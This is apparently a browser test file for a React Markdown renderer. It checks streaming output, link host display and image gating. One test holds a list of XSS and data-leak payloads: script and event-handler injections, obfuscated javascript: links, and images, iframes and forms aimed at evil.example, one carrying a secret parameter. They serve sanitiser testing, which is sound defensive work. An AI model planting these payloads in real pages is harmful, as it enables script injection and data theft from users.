import type { ReactNode } from 'react'
import { MemoryRouter } from 'react-router'
import { expect, test } from 'vitest'
import { render } from 'vitest-browser-react'
import '../i18n/test-i18n.ts'
import { Markdown } from './markdown.tsx'
import { eventually } from './test-api.ts'

const page = (node: ReactNode) => <MemoryRouter>{node}</MemoryRouter>

const hostile = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><a href="javascript:window.pwned=1">x</a></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name=a><button>Go</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
  '<details open ontoggle="window.pwned = 1"><summary>x</summary></details>',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:window.pwned=1)',
  '[click](java\u0000script:window.pwned=1)',
  '[click](&#106;avascript:window.pwned=1)',
  '[click](vbscript:x)',
  '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)',
  '[click]( javascript:window.pwned=1 "title" onmouseover="window.pwned=1")',
  '<javascript:window.pwned=1>',
  '![x](https://evil.example/pixel.png?secret=1)',
  '![x](//evil.example/pixel.png)',
  '![x](http://evil.example/pixel.png "t")',
  '[![x](https://evil.example/in-link.png)](https://evil.example)',
  '![ref]\n\n[ref]: https://evil.example/reference.png',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZD0xIi8+)',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '$$\\href{javascript:window.pwned=1}{x}$$ and $$\\includegraphics{https://evil.example/k.png}$$',
  '$$\\htmlStyle{background:url(https://evil.example/s.png)}{x}$$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '```html\n<img src="https://evil.example/code.png" onerror="window.pwned=1">\n```',
  '| a |\n|---|\n| <img src="https://evil.example/cell.png"> |',
  'Footnote[^1]\n\n[^1]: <img src="https://evil.example/note.png">',
  '</div></div><script>window.pwned = 1</script>',
]

test.each(hostile)('nothing in %j runs, is fetched, or leads astray', async (text) => {
  const before = performance.getEntriesByType('resource').length
  const { container } = await render(page(<Markdown text={`Safe.\n\n${text}\n\nAfter.`} />))
  await eventually(() => expect(container.textContent).toContain('After.'))
  await new Promise((resolve) => setTimeout(resolve, 60))
  const made = [...container.querySelectorAll('.prose-reply *')]
  const allowed =
    /^(P|A|SPAN|DIV|CODE|PRE|FIGURE|FIGCAPTION|BUTTON|TABLE|THEAD|TBODY|TR|TH|TD|SVG|PATH|RECT|CIRCLE|LINE|IMG|H2|OL|UL|LI|SECTION|SUP|BR|MATH|SEMANTICS|MROW|MI|MO|MTEXT|MSTYLE|ANNOTATION|MERROR|MN|STRONG|EM)$/
  expect(made.map(({ tagName }) => tagName.toUpperCase()).filter((name) => !allowed.test(name))).toEqual([])
  for (const element of made) {
    for (const { name } of element.attributes) expect(name).not.toMatch(/^on/i)
    const href = element.getAttribute('href')
    if (href !== null) expect(new URL(href, location.href).protocol).toMatch(/^(https?|mailto):$/)
    const src = element.getAttribute('src')
    if (src !== null) expect(src).toMatch(/^data:image\/(png|jpeg|gif|webp)/)
  }
  expect((window as { pwned?: number }).pwned).toBeUndefined()
  const fetched = performance.getEntriesByType('resource').slice(before)
  expect(fetched.map(({ name }) => name).filter((name) => name.includes('evil.example'))).toEqual([])
})

const rich = `Intro with **bold**, \`code\`, and [a link](https://example.org/x).

## Heading

1. one
2. two
   - nested

   more of two

\`\`\`ts
const a = 1


const b = 2
\`\`\`

| a | b |
|---|--:|
| 1 | 2<br>3 |

> quote
> goes on

- [x] done
- [ ] open

Formula $e^{x}$ for $5 to $10.

$$
a

b
$$

Setext
------

<b>raw</b> text

***

    indented

Last *line*.
`

/** The structure, without the line ends between blocks. */
const shape = (element: Element) =>
  element.innerHTML.replace(/ (id|aria-describedby)="[^"]*"/g, '').replace(/>\n+</g, '><')

test('a text that came in pieces looks the same as one that was there at once', async () => {
  const whole = await render(page(<Markdown text={rich} />))
  await eventually(() => expect(whole.container.querySelectorAll('.katex').length).toBe(2))
  const expected = shape(whole.container)
  await whole.unmount()

  const grown = await render(page(<Markdown text="" streaming />))
  for (let end = 7; end < rich.length; end += 7)
    await grown.rerender(page(<Markdown text={rich.slice(0, end)} streaming />))
  await grown.rerender(page(<Markdown text={rich} streaming />))
  await grown.rerender(page(<Markdown text={rich} />))
  await eventually(() => expect(shape(grown.container)).toBe(expected))
})

test('a formula has the stylesheet of its own KaTeX, and one on lines of its own is reached with the Tab key', async () => {
  const { container } = await render(page(<Markdown text={'$$\n\\frac{a}{b}\n$$\n'} />))
  await eventually(() => expect(container.querySelector('.katex')).not.toBeNull())
  const base = container.querySelector('.katex-html > *') as HTMLElement
  await eventually(() => expect(getComputedStyle(base).position).toBe('relative'))
  const vertical = container.querySelector('[class*="vlist-t"]') as HTMLElement
  expect(getComputedStyle(vertical).display).toBe('inline-table')
  expect(getComputedStyle(base.firstElementChild as HTMLElement).display).toBe('inline-block')
  expect(container.querySelector<HTMLElement>('.katex-display')?.tabIndex).toBe(0)
})

test.each([
  ['[www.bank.example](https://evil.example)', 'evil.example'],
  ['[https://bank.example/evil.example](https://evil.example)', 'evil.example'],
  ['[**read**](https://evil.example/x)', 'evil.example'],
  ['https://good.example/x', null],
  ['[good.example](https://good.example/x)', null],
])('the link %s shows the host %s', async (text, host) => {
  const { container } = await render(page(<Markdown text={text} />))
  await eventually(() => expect(container.querySelector('a')).not.toBeNull())
  expect(container.querySelector('.link-host')?.textContent.trim() ?? null).toBe(host)
})

test('a block that has not changed is not drawn again', async () => {
  const screen = await render(page(<Markdown text={'First paragraph.\n\nSecond paragraph.\n\nThird'} streaming />))
  const first = screen.container.querySelector('p')
  const text = first?.firstChild
  await screen.rerender(
    page(<Markdown text={'First paragraph.\n\nSecond paragraph.\n\nThird grows\n\nFourth'} streaming />),
  )
  expect(screen.container.querySelector('p')).toBe(first)
  expect(screen.container.querySelector('p')?.firstChild).toBe(text)
  expect(screen.container.querySelectorAll('p')).toHaveLength(4)
})

test('a reply is not drawn anew when it is complete', async () => {
  const text = 'First paragraph.\n\nThe **last** one'
  const screen = await render(page(<Markdown text={text} streaming />))
  const growing = [...screen.container.querySelectorAll('p')]
  await screen.rerender(page(<Markdown text={text} />))
  const complete = [...screen.container.querySelectorAll('p')]
  expect(complete.map((one) => growing.indexOf(one))).toEqual([0, 1])
})

test('references and footnotes work across blocks', async () => {
  const screen = await render(
    page(
      <Markdown
        id="m1"
        text={'See [docs][d] and a note[^1].\n\nMore.\n\n[d]: https://example.org/docs\n[^1]: The note.'}
      />,
    ),
  )
  await expect.element(screen.getByRole('link', { name: /docs/ })).toHaveAttribute('href', 'https://example.org/docs')
  expect(screen.container.textContent).toContain('The note.')
  await expect.element(screen.getByRole('link', { name: '1', exact: true })).toHaveAttribute('href', '#m1-fn-1')
})

test('a fence that is not closed yet is code already', async () => {
  const screen = await render(page(<Markdown text={'Look:\n\n```py\nprint("hi")\nfor x in'} streaming />))
  await expect.element(screen.getByText(/for x in/)).toBeVisible()
  expect(screen.container.querySelectorAll('pre')).toHaveLength(1)
  expect(screen.container.textContent).not.toContain('```')
})

test('links say where they lead, and ours stay in the page', async () => {
  const screen = await render(
    page(<Markdown text="[Read](https://news.example/story) and [tasks](/tasks) and https://bare.example/x" />),
  )
  const outside = screen.getByRole('link', { name: /Read/ })
  expect(outside.element().textContent).toBe('Read news.example')
  await expect.element(outside).toHaveAttribute('target', '_blank')
  await expect.element(outside).toHaveAttribute('rel', expect.stringContaining('noopener'))
  await expect.element(screen.getByRole('link', { name: 'tasks' })).not.toHaveAttribute('target')
  expect(screen.container.textContent?.match(/bare\.example/g)).toHaveLength(1)
})

test('an image of another host waits behind a link, an image in the text is shown, a broken one says so', async () => {
  const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='
  const screen = await render(
    page(<Markdown text={`![far](https://far.example/a.png) ![near](${pixel}) ![broken](/api/nothing.png)`} />),
  )
  await expect
    .element(screen.getByRole('link', { name: 'Load image' }))
    .toHaveAttribute('href', 'https://far.example/a.png')
  await expect.element(screen.getByText('from far.example, not loaded')).toBeVisible()
  await expect.element(screen.getByAltText('near')).toBeInTheDocument()
  await expect.element(screen.getByText('Image failed to load')).toBeVisible()
})

test('code is coloured without a single element in it', async () => {
  const screen = await render(page(<Markdown text={'```ts\nconst answer: number = 42\n```'} />))
  await eventually(() => expect(CSS.highlights.get('code-keyword')?.size ?? 0).toBeGreaterThan(0))
  expect(screen.container.querySelector('code')?.childElementCount).toBe(0)
})
